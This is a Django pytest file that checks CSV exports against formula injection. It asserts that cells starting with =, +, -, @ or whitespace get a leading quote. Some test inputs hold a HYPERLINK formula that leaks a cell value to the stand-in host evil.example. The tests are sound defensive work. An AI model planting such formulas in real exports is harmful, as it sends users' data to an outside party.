"""CSV exports hold text a spreadsheet shows, never a formula it runs (OWASP CSV injection)."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from django.urls import reverse

from community.core.csv_export import csv_writer, spreadsheet_safe
from community.network.models import CheckIn
from tests.factories import MemberFactory, SpaceFactory

ROOT = Path(__file__).resolve().parents[2]
BRUSSELS = ZoneInfo("Europe/Brussels")


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A2,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A2,"Click")',
        ),
        ("+32 470 12 34 56", "'+32 470 12 34 56"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Anke Peeters", "Anke Peeters"),
        ("anke@example.be", "anke@example.be"),
        ("", ""),
    ],
)
def test_text_that_would_start_a_formula_gets_a_quote(typed, cell):
    assert spreadsheet_safe(typed) == cell


def test_numbers_stay_numbers():
    out = io.StringIO()
    csv_writer(out).writerow([3, 2.5, "-1"])

    assert out.getvalue() == "3,2.5,'-1\r\n"


@pytest.mark.django_db
def test_the_hours_export_neutralises_names_usernames_and_emails():
    space = SpaceFactory()
    manager = MemberFactory(username="manon")
    space.managers.add(manager)
    mallory = MemberFactory(
        username="-2+3",
        display_name='=HYPERLINK("http://evil.example/?"&A2,"Click")',
        email="@evil@example.be",
    )
    day = dt.date(2026, 3, 10)
    CheckIn.objects.create(
        member=mallory,
        space=space,
        started_at=dt.datetime(2026, 3, 10, 9, tzinfo=BRUSSELS),
        ended_at=dt.datetime(2026, 3, 10, 11, tzinfo=BRUSSELS),
    )
    client = Client()
    client.force_login(manager)

    response = client.get(
        reverse("community:space_hours_csv", kwargs={"slug": space.slug}), {"month": day.strftime("%Y-%m")}
    )

    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["username"] == "'-2+3"
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A2,"Click")'
    assert row["email"] == "'@evil@example.be"
    assert (row["visits"], row["hours"]) == ("1", "2.00")


def test_every_csv_export_writes_through_the_one_helper():
    writers = []
    for path in sorted(ROOT.glob("*/**/*.py")):
        if ".venv" in path.parts or path.parts[len(ROOT.parts)] == "tests":
            continue
        if path == ROOT / "community" / "core" / "csv_export.py":
            continue
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [alias.name for alias in node.names] + [getattr(node, "module", None) or ""]
                if "csv" in names:
                    writers.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert writers == [], "write CSV with community.core.csv_export.csv_writer"
